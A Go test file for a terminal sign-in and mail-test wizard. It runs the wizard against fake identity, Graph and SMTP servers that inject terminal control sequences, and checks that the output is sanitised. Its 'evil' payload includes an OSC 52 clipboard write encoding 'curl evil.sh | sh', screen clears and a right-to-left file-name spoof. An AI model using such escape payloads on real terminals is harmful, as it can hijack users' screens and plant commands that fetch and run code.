package ui

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"
	"github.com/charmbracelet/x/exp/teatest/v2"

	"mfpmail/assets"
	"mfpmail/demo"
	"mfpmail/flow"
)

// evil is what a hostile server puts in every text: a window title
// (OSC 0), a clipboard write (OSC 52), a screen clear (CSI), the same as
// a C1 control, and a right-to-left override.
const evil = "\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b[H \u009b2J \u202egpj.exe"

// hostileIdP answers the device code flow at once and puts evil into every
// field of the ID token and of Graph's answer.
func hostileIdP(t *testing.T, refuse bool) string {
	t.Helper()
	claims, _ := json.Marshal(map[string]any{"preferred_username": "scanner@contoso.com", "email": "e" + evil,
		"name": "Scanner " + evil, "tid": "tid" + evil, "oid": "oid" + evil})
	idTok := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none"}`)) + "." + base64.RawURLEncoding.EncodeToString(claims) + ".sig"
	answer := func(w http.ResponseWriter, v any) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(v)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/devicecode"):
			answer(w, map[string]any{"device_code": "dev-0123456789abcdef", "user_code": "EVILCODE", "verification_uri": "https://idp.example/device",
				"expires_in": 900, "interval": 1, "message": evil})
		case strings.HasSuffix(r.URL.Path, "/token") && refuse:
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			json.NewEncoder(w).Encode(map[string]any{"error": "access_denied" + evil, "error_description": "AADSTS50126: " + evil,
				"error_codes": []int{50126}, "trace_id": "trace-" + evil, "correlation_id": "corr-" + evil, "timestamp": evil})
		case strings.HasSuffix(r.URL.Path, "/token"):
			answer(w, map[string]any{"access_token": "at-0123456789abcdef", "token_type": "Bearer", "expires_in": 3600,
				"refresh_token": "rt-0123456789abcdef", "id_token": idTok})
		case strings.HasPrefix(r.URL.Path, "/v1.0/me"):
			answer(w, map[string]any{"id": "id" + evil, "displayName": "Scanner " + evil, "userPrincipalName": "scanner@contoso.com",
				"mail": "scanner@contoso.com", "proxyAddresses": []string{"SMTP:scanner@contoso.com", "smtp:alias" + evil + "@contoso.com"}})
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// hostileSMTP accepts the test message and puts evil into every reply.
func hostileSMTP(t *testing.T, ca *demo.CA) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	var mu sync.Mutex
	var conns []net.Conn
	t.Cleanup(func() {
		ln.Close()
		mu.Lock()
		for _, c := range conns {
			c.Close()
		}
		mu.Unlock()
		wg.Wait()
	})
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer c.Close()
				serveEvil(c, ca.ServerTLSConfig())
			}()
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port
}

func serveEvil(c net.Conn, cfg *tls.Config) {
	var conn net.Conn = c
	r := bufio.NewReader(conn)
	say := func(lines ...string) {
		for _, l := range lines {
			io.WriteString(conn, l+"\r\n")
		}
	}
	say("220 evil.test ESMTP " + evil)
	inTLS := false
	for {
		l, err := r.ReadString('\n')
		if err != nil {
			return
		}
		switch strings.ToUpper(strings.Fields(l + " x")[0]) {
		case "EHLO":
			if inTLS {
				say("250-evil.test "+evil, "250 AUTH XOAUTH2")
			} else {
				say("250-evil.test "+evil, "250 STARTTLS")
			}
		case "STARTTLS":
			say("220 2.0.0 go ahead " + evil)
			tc := tls.Server(c, cfg)
			if tc.Handshake() != nil {
				return
			}
			conn, r, inTLS = tc, bufio.NewReader(tc), true
		case "AUTH":
			if len(strings.Fields(l)) == 2 {
				say("334 ")
				r.ReadString('\n')
			}
			say("235 2.7.0 ok " + evil)
		case "DATA":
			say("354 go on " + evil)
			for {
				l, err := r.ReadString('\n')
				if err != nil || strings.TrimSpace(l) == "." {
					break
				}
			}
			say("250 2.0.0 queued " + evil)
		case "QUIT":
			say("221 bye " + evil)
			return
		default:
			say("250 2.1.0 ok " + evil)
		}
	}
}

// The wizard against an identity provider, Graph and SMTP server that put
// terminal controls in every field: the screens show them as visible
// escapes, and the program's output holds no control sequence it did not
// draw itself: no OSC at all, no screen clear, no C1, no bidi override.
func TestWizardAgainstHostileServers(t *testing.T) {
	ca, err := demo.NewCA()
	if err != nil {
		t.Fatal(err)
	}
	idp := hostileIdP(t, false)
	opts := Options{
		Config:   flow.Config{Lang: assets.EN, Authority: idp, GraphURL: idp},
		SMTPHost: "127.0.0.1", SMTPPort: hostileSMTP(t, ca), SMTPRoots: ca.Pool(),
		Answers: flow.Answers{DeviceEmail: "scanner@contoso.com", LoginCredentials: flow.LoginSystem, GuestEdit: "safe", NoAuthEdit: "safe"},
	}
	tm := teatest.NewTestModel(t, New(opts), teatest.WithInitialTermSize(120, 40))
	var all bytes.Buffer
	wait := func(what ...string) {
		t.Helper()
		teatest.WaitFor(t, tm.Output(), func(b []byte) bool {
			s := ansi.Strip(string(b))
			for _, w := range what {
				if !strings.Contains(s, w) {
					return false
				}
			}
			all.Write(b)
			return true
		}, teatest.WithDuration(20*time.Second), teatest.WithCheckInterval(20*time.Millisecond))
	}
	wait("mfpmail")
	tm.Send(gotoMsg{flow.StepSignIn})
	wait("https://idp.example/device")
	wait("scanner@contoso.com") // the provider approves at the first poll
	tm.Send(gotoMsg{flow.StepIdentity})
	wait("Scanner") // Graph's display name
	tm.Send(gotoMsg{flow.StepTestSend})
	tm.Send(press("enter"))
	wait("queued")
	tm.Send(press("t"))
	wait("evil.test ESMTP")
	tm.Send(gotoMsg{flow.StepSummary})
	wait("test")
	tm.Send(press("q"))
	tm.Send(press("y")) // quit without writing the report
	io.Copy(&all, tm.FinalOutput(t, teatest.WithFinalTimeout(5*time.Second)))
	drawnOnly(t, all.String())
}

// drawnOnly fails if the program's output holds a control sequence a
// server could have sent, or never showed the server's text at all.
func drawnOnly(t *testing.T, out string) {
	t.Helper()
	out = withoutOwnSequences(out)
	for _, bad := range []string{"\x1b]", "\x1b[2J", "\x07", "\u009b", "\u202e"} {
		if i := strings.Index(out, bad); i >= 0 {
			t.Errorf("the output holds %q the program did not draw, near %q", bad, out[max(0, i-60):min(len(out), i+60)])
		}
	}
	if !strings.Contains(out, `\x1b[2J`) {
		t.Errorf("the server's text never reached the screen (as escapes): the test proves nothing")
	}
}

// programSequences are what the program itself writes besides styles:
// the background colour query, the clear on entering the alternate
// screen, and hyperlinks (OSC 8) whose target is printable text only.
var programSequences = regexp.MustCompile(`\x1b\]11;\?\x07|\x1b\[H\x1b\[2J|\x1b\]8;[\x20-\x7e]*;[\x20-\x7e]*(\x1b\\|\x07)`)

// withoutOwnSequences is out without the program's own sequences.
func withoutOwnSequences(out string) string { return programSequences.ReplaceAllString(out, "") }

// A refusal from a hostile identity provider: the sign-in screen explains
// it with the provider's texts cleaned.
func TestWizardSignInRefusedByHostileServer(t *testing.T) {
	idp := hostileIdP(t, true)
	opts := Options{Config: flow.Config{Lang: assets.EN, Authority: idp, GraphURL: idp}}
	tm := teatest.NewTestModel(t, New(opts), teatest.WithInitialTermSize(120, 40))
	var all bytes.Buffer
	teatest.WaitFor(t, tm.Output(), func(b []byte) bool {
		if strings.Contains(ansi.Strip(string(b)), "mfpmail") {
			all.Write(b)
			return true
		}
		return false
	}, teatest.WithDuration(20*time.Second))
	tm.Send(gotoMsg{flow.StepSignIn})
	teatest.WaitFor(t, tm.Output(), func(b []byte) bool {
		if strings.Contains(ansi.Strip(string(b)), "corr-") {
			all.Write(b)
			return true
		}
		return false
	}, teatest.WithDuration(20*time.Second), teatest.WithCheckInterval(20*time.Millisecond))
	tm.Send(press("q"))
	io.Copy(&all, tm.FinalOutput(t, teatest.WithFinalTimeout(5*time.Second)))
	drawnOnly(t, all.String())
}
